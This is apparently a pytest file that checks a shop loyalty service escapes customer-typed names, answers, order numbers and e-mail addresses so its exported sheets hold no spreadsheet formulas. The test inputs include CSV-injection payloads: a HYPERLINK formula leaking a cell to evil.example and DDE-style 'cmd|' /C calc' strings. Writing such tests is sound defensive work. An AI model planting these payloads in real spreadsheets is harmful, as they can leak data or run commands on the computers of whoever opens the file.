"""What customers and shops wrote, exported as CSV by the owner: nothing of it is a formula, and all of it still counts.

Over HTTP, with what the exported file begins its fields with, as Excel and Sheets look at it.
"""

import csv
import io
from collections.abc import Callable, Iterator
from typing import Any

import pytest
from flask.testing import FlaskClient

from sandbox.owner import Owner
from service.container import now

Tap = Callable[..., dict[str, Any]]

STARTS_A_FORMULA = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
TYPED = (
    '=HYPERLINK("http://evil.example?"&A1,"Click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+49 171 1042",
    "-2+3+cmd|' /C notepad'!A0",
    "＝1+1",
    "\t=1+1",
    "\u200b=1+1",
    "-Ana",
)
QUESTIONS = ("-How was it?", "=And the tea?")
TYPED_BY_THE_OWNER = {("Survey", question) for question in QUESTIONS}
SECRETS = {"ORDERS_SECRET": "the-secret-of-the-shop"}


@pytest.fixture
def tap(owner: Owner, client: FlaskClient, environment: pytest.MonkeyPatch) -> Tap:
    """Taps as a customer, in a shop that believes what is typed and asks how people liked it."""
    for name, value in SECRETS.items():
        environment.setenv(name, value)
    owner.type_over("Settings", "Confirm e-mail", "Value", "no")
    owner.type("Survey", *(["visit", f"'{question}"] for question in QUESTIONS))

    def send(action: str, contact: str, **fields: object) -> dict[str, Any]:
        headers = {"Authorization": "Bearer the-secret-of-this-test"}
        body = {"contact": {"id": contact, "first_name": fields.pop("name", "Ana")}, **fields}
        return dict(client.post(f"/manychat/{action}", json=body, headers=headers).get_json())

    return send


@pytest.fixture
def sell(client: FlaskClient) -> Callable[..., int]:
    def send(**order: object) -> int:
        told = {"amount": 60, "placed": now().date().isoformat(), **order}
        headers = {"Authorization": f"Bearer {SECRETS['ORDERS_SECRET']}"}
        return int(client.post("/orders", json=told, headers=headers).get_json()["added"])

    return send


def exported(owner: Owner) -> Iterator[tuple[str, str]]:
    """Each text of each tab as its CSV file has it, with the tab's title; numbers are no texts."""
    for sheet in owner.google.spreadsheet(owner.spreadsheet).sheets:
        file = io.StringIO(newline="")
        rows = owner.google.tab(owner.spreadsheet, sheet.title)
        csv.writer(file).writerows([cell for cell in row if isinstance(cell, str)] for row in rows)
        for fields in csv.reader(io.StringIO(file.getvalue(), newline="")):
            yield from ((sheet.title, field) for field in fields)


def harmful(owner: Owner) -> list[tuple[str, str]]:
    return [
        (title, field)
        for title, field in exported(owner)
        if field.startswith(STARTS_A_FORMULA) and (title, field) not in TYPED_BY_THE_OWNER
    ]


@pytest.mark.parametrize("words", TYPED)
def test_whatever_a_customer_types_is_no_formula_in_any_tab(tap: Tap, owner: Owner, words: str) -> None:
    tap("join", "7101", email="mia@example.com", name=words)
    tap("survey", "7101")
    tap("survey", "7101", answer=words)
    tap("survey", "7101", answer=f" {words}")
    tap("claim", "7101", order_number=words)

    answers = [row["Answer"] for row in owner.tab("Answers")]
    assert len(answers) == 2
    assert harmful(owner) == []
    assert tap("survey", "7101")["code"] in ("survey_done", "no_survey")


@pytest.mark.parametrize("number", ["-12", "+4711", "=1042", "@88", "-A-7", "＝9"])
def test_an_orders_number_is_found_and_claimed_once_whatever_it_begins_with(
    tap: Tap, sell: Callable[..., int], owner: Owner, number: str
) -> None:
    tap("join", "7101", email="mia@example.com")

    added = [
        sell(order=number, email="mia@example.com", products=["-10% mug", "=tea"], coupons=["+FIVE"]) for _ in "ab"
    ]
    claims = [tap("claim", "7101", order_number=number)["code"] for _ in "ab"]

    assert (added, claims) == ([1, 0], ["claimed", "already_claimed"])
    assert tap("points", "7101")["points"] == 110
    assert harmful(owner) == []
    assert [row for row in owner.tab("Ledger") if row["Entry"] == "adjustment"] == []
    assert owner.tab("Problems") == []


@pytest.mark.parametrize("address", ["+mia@example.com", "-mia@example.com", "=mia|cmd@example.com"])
def test_an_address_opens_the_same_account_whatever_it_begins_with_and_goes_with_its_member(
    tap: Tap, sell: Callable[..., int], owner: Owner, address: str
) -> None:
    tap("join", "7101", email=address)
    sell(order="3001", email=address)

    assert tap("join", "7101", email=address)["code"] == "already_member"
    assert tap("join", "7102", email=address)["code"] == "email_taken"
    assert tap("claim", "7101", order_number="3001")["code"] == "claimed"
    assert harmful(owner) == []
    tap("leave", "7101", confirm="yes")
    assert not [field for _, field in exported(owner) if "mia" in field]


def test_a_number_typed_over_points_counts_once_beside_such_a_name_and_numbers_below_zero_stay_numbers(
    tap: Tap, owner: Owner
) -> None:
    tap("join", "7101", email="-mia@example.com", name="=1+1")

    owner.type_over("Members", "'-mia@example.com", "Points", 30)

    assert tap("points", "7101")["points"] == 30
    tap("join", "7102", email="leo@example.com")
    assert [row["Points"] for row in owner.tab("Ledger") if row["Entry"] == "adjustment"] == [-20]
    assert tap("points", "7101")["points"] == 30
    assert harmful(owner) == []
